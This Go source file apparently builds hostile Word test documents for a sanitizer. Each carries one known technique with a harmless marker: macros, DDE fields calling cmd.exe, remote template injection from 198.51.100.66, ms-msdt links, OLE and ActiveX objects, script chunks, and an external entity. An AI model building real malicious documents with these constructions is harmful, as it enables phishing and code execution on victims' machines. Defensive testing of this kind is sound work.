package hostile

const (
	ctWord  = "application/vnd.openxmlformats-officedocument.wordprocessingml."
	ctDocx  = ctWord + "document.main+xml"
	ctDocm  = "application/vnd.ms-word.document.macroEnabled.main+xml"
	docPart = "word/document.xml"
)

// document is a Word document with one paragraph that stays, and what is given beside it.
func document(inside string) *ooxml {
	d := &ooxml{map[string]string{}, map[string]string{}, map[string][]rel{}}
	d.add(docPart, ctDocx, `<w:document xmlns:w="`+nsWord+`" xmlns:r="`+nsOffice+`" xmlns:v="`+nsVML+`" xmlns:o="`+nsO+`" xmlns:a="`+nsDraw+`" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"`+
		` xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>`+Kept+` 関所</w:t></w:r></w:p>`+inside+`<w:sectPr/></w:body></w:document>`)
	d.relate("", "rId1", "officeDocument", docPart, false)
	return d
}

// field is a complex field with its instruction in two runs.
func field(first, second string) string {
	return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + first + `</w:instrText></w:r><w:r><w:instrText xml:space="preserve">` + second +
		`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

func simple(instruction string) string {
	return `<w:p><w:fldSimple w:instr="` + instruction + `"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
}

func picture(id, attribute string) string {
	return `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>` +
		`<pic:blipFill><a:blip r:` + attribute + `="` + id + `"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
}

func settings(d *ooxml, inside string) *ooxml {
	return d.add("word/settings.xml", ctWord+"settings+xml", `<w:settings xmlns:w="`+nsWord+`" xmlns:r="`+nsOffice+`">`+inside+`</w:settings>`).relate(docPart, "rIdS", "settings", "settings.xml", false)
}

func word() []File {
	var out []File
	add := func(technique, ext string, d *ooxml) {
		out = append(out, File{Name: "文書" + ext, Technique: technique, Nesting: "bare", Body: d.bytes()})
	}
	macro := func(d *ooxml) *ooxml {
		d.types[docPart] = ctDocm
		return d.add("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", ole).relate(docPart, "rIdV", msRel+"vbaProject", "vbaProject.bin", false)
	}
	add("VBA macros", ".docm", macro(document("")))
	add("VBA macros under a plain name", ".docx", func() *ooxml {
		d := macro(document(""))
		d.types[docPart] = ctDocx
		return d
	}())
	add("VBA data", ".docm", macro(document("")).add("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:mcds><wne:mcd wne:macroName="`+Marker+`"/></wne:mcds></wne:vbaSuppData>`).
		relate("word/vbaProject.bin", "rId1", msRel+"wordVbaData", "vbaData.xml", false))
	add("key bindings to macros", ".docx", document("").add("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", `<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0141"><wne:macro wne:macroName="`+Marker+`"/></wne:keymap></wne:keymaps></wne:tcg>`).
		relate(docPart, "rIdK", msRel+"keyMapCustomizations", "customizations.xml", false))
	add("remote template", ".docx", settings(document(""), `<w:attachedTemplate r:id="rId1"/>`).relate("word/settings.xml", "rId1", "attachedTemplate", remote+".dotm", true))
	add("template on a share", ".docx", settings(document(""), `<w:attachedTemplate r:id="rId1"/>`).relate("word/settings.xml", "rId1", "attachedTemplate", `file://///198.51.100.66/`+Marker, true))
	add("mail merge from a database", ".docx", settings(document(""), `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="`+Marker+`"/><w:dataSource r:id="rId1"/></w:mailMerge>`).relate("word/settings.xml", "rId1", "mailMergeSource", remote, true))
	add("transformation on saving", ".docx", settings(document(""), `<w:saveThroughXslt r:id="rId1"/>`).relate("word/settings.xml", "rId1", "transform", remote+".xsl", true))
	for name, f := range map[string][2]string{
		"DDE field": {"DDE ", `cmd "/c ` + Marker + `"`}, "DDEAUTO field in pieces": {"DDEA", `UTO c:\\windows\\system32\\cmd.exe "/k ` + Marker + `"`}, "INCLUDETEXT field": {"INCLUDETEXT ", `"` + remote + `"`},
		"INCLUDEPICTURE field": {"INCLUDEPICTURE ", `"` + remote + `" \d`}, "LINK field": {"LINK ", `Excel.Sheet.12 "\\\\198.51.100.66\\` + Marker + `" a`}, "IMPORT field": {"IMPORT ", `"` + remote + `"`}, "MACROBUTTON field": {"MACROBUTTON ", Marker + " x"},
		"HYPERLINK field to a file": {"HYPERLINK ", `"file:///c:/` + Marker + `"`}, "INCLUDE field": {"INCLUDE ", `"` + remote + `"`}, "DATABASE field": {"DATABASE ", `\d "` + Marker + `"`}, "RD field": {"RD ", `"` + remote + `"`},
		"EMBED field": {"EMBED ", "Package " + Marker}, "CONTROL field": {"CONTROL ", "Forms.HTML:" + Marker}, "HTMLCONTROL field": {"HTMLCONTROL ", Marker}, "PRINT field": {"PRINT ", Marker}, "ADDIN field": {"ADDIN ", Marker},
	} {
		out = append(out, File{Name: "文書.docx", Technique: name, Nesting: "bare", Body: document(field(f[0], f[1])).bytes()})
	}
	add("DDE in a simple field", ".docx", document(simple(`DDEAUTO cmd &quot;/c `+Marker+`&quot;`)))
	add("field in a field", ".docx", document(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`+field("QUOTE ", "68 68 69")+`<w:r><w:instrText>DDE cmd `+Marker+`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`))
	add("linked picture", ".docx", document(picture("rId9", "link")).relate(docPart, "rId9", "image", remote+".png", true))
	add("embedded picture that is elsewhere", ".docx", document(picture("rId9", "embed")).relate(docPart, "rId9", "image", remote+".png", true))
	add("VML picture elsewhere", ".docx", document(`<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rId9" o:href="`+remote+`"/></v:shape></w:pict></w:r></w:p>`).relate(docPart, "rId9", "image", remote+".png", true))
	const elsewhere = "http://198.51.100.66/picture.png"
	add("VML picture by a link", ".docx", document(`<w:p><w:r><w:pict><v:shape><v:imagedata r:id="rIdLink"/></v:shape></w:pict></w:r></w:p>`).relate(docPart, "rIdLink", "hyperlink", elsewhere, true))
	add("picture by a link", ".docx", document(picture("rIdLink", "link")).relate(docPart, "rIdLink", "hyperlink", elsewhere, true))
	object := func(kind, typ string) string {
		return `<w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="` + kind + `" ProgID="` + typ + `" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="rId9"/></w:object></w:r></w:p>`
	}
	add("embedded OLE object", ".docx", document(object("Embed", "Package")).add("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", ole).relate(docPart, "rId9", "oleObject", "embeddings/oleObject1.bin", false))
	add("linked OLE object", ".docx", document(object("Link", "htmlfile")).relate(docPart, "rId9", "oleObject", remote+"!x", true))
	add("embedded macro workbook", ".docx", document(object("Embed", "Excel.SheetMacroEnabled.12")).add("word/embeddings/b.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", string(workbook("").vba().bytes())).relate(docPart, "rId9", "package", "embeddings/b.xlsm", false))
	add("ActiveX control", ".docx", document(`<w:p><w:r><w:object><w:control r:id="rId9" w:name="c" w:shapeid="s"/></w:object></w:r></w:p>`).
		add("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="`+nsOffice+`" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistStreamInit" r:id="rId1"/>`).
		add("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", ole).relate(docPart, "rId9", "control", "activeX/activeX1.xml", false).relate("word/activeX/activeX1.xml", "rId1", msRel+"activeXControlBinary", "activeX1.bin", false))
	add("imported HTML", ".docx", document(`<w:altChunk r:id="rId9"/>`).add("word/chunk.html", "", "<script>"+Marker+"</script>").relate(docPart, "rId9", "aFChunk", "chunk.html", false))
	add("imported RTF", ".docx", document(`<w:altChunk r:id="rId9"/>`).add("word/chunk.rtf", "", `{\rtf1{\object\objdata `+Marker+`}}`).relate(docPart, "rId9", "aFChunk", "chunk.rtf", false))
	add("imported from elsewhere", ".docx", document(`<w:altChunk r:id="rId9"/>`).relate(docPart, "rId9", "aFChunk", remote, true))
	add("subdocument", ".docx", document(`<w:p><w:subDoc r:id="rId9"/></w:p>`).relate(docPart, "rId9", "subDocument", remote, true))
	add("frames", ".docx", document("").add("word/webSettings.xml", ctWord+"webSettings+xml", `<w:webSettings xmlns:w="`+nsWord+`" xmlns:r="`+nsOffice+`"><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`).
		relate(docPart, "rIdW", "webSettings", "webSettings.xml", false).relate("word/webSettings.xml", "rId1", "frame", remote, true))
	add("custom ribbon", ".docx", document("").add("customUI/customUI14.xml", "", `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="`+Marker+`"/>`).relate("", "rIdU", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false))
	add("custom XML with binding", ".docx", document(`<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>`).
		add("customXml/item1.xml", "", "<a>"+Marker+"</a>").relate(docPart, "rIdX", "customXml", "../customXml/item1.xml", false))
	add("link to a script", ".docx", document(`<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`).relate(docPart, "rId9", "hyperlink", "javascript:"+Marker, true))
	add("link to a share", ".docx", document(`<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`).relate(docPart, "rId9", "hyperlink", `file://198.51.100.66/`+Marker, true))
	add("link to a handler", ".docx", document(`<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`).relate(docPart, "rId9", "hyperlink", `ms-msdt:/id `+Marker, true))
	add("embedded font", ".docx", document("").add("word/fontTable.xml", ctWord+"fontTable+xml", `<w:fonts xmlns:w="`+nsWord+`" xmlns:r="`+nsOffice+`"><w:font w:name="f"><w:embedRegular r:id="rId1" w:fontKey="{0}"/></w:font></w:fonts>`).
		add("word/fonts/f.odttf", "", Marker).relate(docPart, "rIdF", "fontTable", "fontTable.xml", false).relate("word/fontTable.xml", "rId1", "font", "fonts/f.odttf", false))
	add("printer settings", ".docx", document("").add("word/printerSettings1.bin", "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings", Marker).relate(docPart, "rIdP", "printerSettings", "printerSettings1.bin", false))
	add("web extension", ".docx", document("").add("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11" x="`+Marker+`"/>`).
		relate("", "rIdT", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", false))
	add("author's data", ".docx", document("").add("docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml", `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">`+Marker+`</Properties>`).
		relate("", "rIdC", "custom-properties", "docProps/custom.xml", false))
	add("part that nothing leads to", ".docx", document("").add("word/hidden.bin", "", Marker))
	add("part of an unknown kind", ".docx", document("").add("word/x.bin", "", Marker).relate(docPart, "rIdX", "http://example.com/unknown", "x.bin", false))
	add("unknown element", ".docx", document(`<w:p><x:run xmlns:x="urn:x" command="`+Marker+`"/></w:p>`))
	add("ink", ".docx", document(`<w:p><w:r><w:contentPart r:id="rId9"/></w:r></w:p>`).add("word/ink/ink1.xml", "application/inkml+xml", `<ink xmlns="http://www.w3.org/2003/InkML">`+Marker+`</ink>`).relate(docPart, "rId9", "customXml", "ink/ink1.xml", false))
	add("picture with a tail", ".docx", document(picture("rId9", "embed")).add("word/media/a.png", "", string(tinyPNG)+"<?php "+Marker).relate(docPart, "rId9", "image", "media/a.png", false))
	add("SVG picture with a script", ".docx", document(picture("rId9", "embed")).add("word/media/a.svg", "", `<svg xmlns="http://www.w3.org/2000/svg"><script>`+Marker+`</script></svg>`).relate(docPart, "rId9", "image", "media/a.svg", false))
	add("comment with a script", ".docx", document(`<!-- `+Marker+` --><?`+"x "+Marker+`?>`))
	add("external entity", ".docx", func() *ooxml {
		d := document("")
		d.parts[docPart] = `<!DOCTYPE x [<!ENTITY e SYSTEM "` + remote + `">]>` + d.parts[docPart]
		return d
	}())
	out[len(out)-1].Blocked = true
	return out
}
